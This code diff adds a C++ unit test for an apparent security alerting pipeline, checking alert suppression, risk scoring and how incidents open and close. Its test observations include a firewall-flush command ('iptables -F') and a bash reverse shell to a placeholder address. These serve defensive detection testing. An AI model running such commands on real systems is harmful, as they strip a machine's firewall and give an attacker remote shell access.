@@ -44,6 +44,35 @@ TEST(PipelineCore, suppresses_the_same_alert_of_a_device_for_an_hour) {
   EXPECT_EQ(b.core->counts().suppressed, 1u);
 }
 
+/// High is 50 points: 50 + 25 (the repeat, suppressed) stays below 100, and 50 of another rule make 125 less a
+/// little decay.
+TEST(PipelineCore, counts_towards_risk_what_it_suppresses) {
+  Bench b;
+  add_own_rules(b.builder);
+  const Observation firewall = exec(b.texts, kStart, "iptables -F", "/sbin/iptables");
+  const Observation shell = exec(b.texts, kStart, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/bin/bash");
+  b.start(2);
+  b.send(kStart, {firewall}, 0);
+  b.send(kStart + Duration::minutes(1), {firewall, firewall}, 0);
+  b.send(kStart + Duration::minutes(1), {firewall}, 1);
+  b.advance(kStart + Duration::minutes(2));
+  EXPECT_EQ(b.core->counts().suppressed, 2u);
+  EXPECT_EQ(b.core->counts().risk.contributions, 3u) << "one message says a thing once";
+  EXPECT_THAT(b.sink->incidents, IsEmpty());
+  b.send(kStart + Duration::minutes(3), {shell}, 0);
+  b.send(kStart + Duration::minutes(3), {shell}, 1);
+  b.advance(kStart + Duration::minutes(3));
+  ASSERT_THAT(b.sink->incidents.size(), 1u) << "device 1 has 100, less the decay";
+  const StoredIncident& opened = b.sink->incidents[0];
+  EXPECT_EQ(opened.device, 0u);
+  EXPECT_EQ(opened.time, kStart + Duration::minutes(3) + Duration::seconds(20)) << "with the processing delay";
+  EXPECT_NEAR(opened.score, 125, 0.3);
+  b.advance(kStart + Duration::hours(25));
+  ASSERT_THAT(b.sink->incidents.size(), 2u);
+  EXPECT_EQ(b.sink->incidents[1].state, IncidentState::kClosed);
+  EXPECT_EQ(b.core->counts().risk.incidents_closed, 1u);
+}
+
 TEST(PipelineCore, counts_every_message_it_does_not_analyse) {
   Bench b;
   const Observation o = exec(b.texts, kStart, "ls");
